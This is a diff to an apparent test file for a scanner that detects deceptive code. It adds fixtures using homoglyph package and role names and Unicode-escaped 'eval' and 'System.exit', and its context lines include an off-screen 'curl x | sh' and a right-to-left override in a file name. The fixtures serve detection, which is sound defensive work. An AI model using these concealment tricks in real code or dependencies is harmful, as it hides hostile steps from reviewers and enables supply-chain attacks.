@@ -67,6 +67,12 @@ const ATTACKS: readonly (readonly [kind: string, path: string, text: string])[] 
   ["off-screen", "wide.go", `a()${"\u3000".repeat(100)}; b()\n`],
   ["off-screen", "empty.js", `go();\n${BLANKS}${BLANKS}eval(x);\n`],
   ["off-screen-data", "run.yml", `run: ls${BLANKS}; curl x | sh\n`],
+  ["mixed-script-in-string", "package.json", '{ "dependencies": { "r\u0435act": "1.0.0" } }\n'],
+  ["mixed-script-in-string", "roles.yml", "r\u043ele: admin\n"],
+  ["mixed-script-in-string", "list.yaml", "- @acme/p\u0430yment\n"],
+  ["escaped-name", "escaped.js", "\\u0065val(x);\n"],
+  ["escaped-name", "braces.ts", "ev\\u{61}l(x);\n"],
+  ["escaped-name", "Escaped.java", "\\u0053ystem.exit(1);\n"],
   ["file-name", "src/\u202egnp.js", "const a = 1;\n"],
   ["file-name", "src/p\u0430yment.js", "const a = 1;\n"],
   ["file-name", "src/index\u200b.js", "const a = 1;\n"],
@@ -96,6 +102,8 @@ const HONEST: readonly (readonly [path: string, text: string])[] = [
   ["far.yml", `a: b${BLANKS}# why\n`],
   ["far.md", `a${BLANKS}b\n`],
   ["macro.h", `#define A 1 ${BLANKS} \\\n 2\n`],
+  ["words.json", '{ "saved": "Сохранение commitов на GitHub" }\n'],
+  ["escapes.js", 'const a = "\\u0041\\u202e"; const b = /\\u0041/; // \\u0041\n'],
   ["latin.py", "# -*- coding: latin-1 -*-\na = 1\n"],
 ];
 
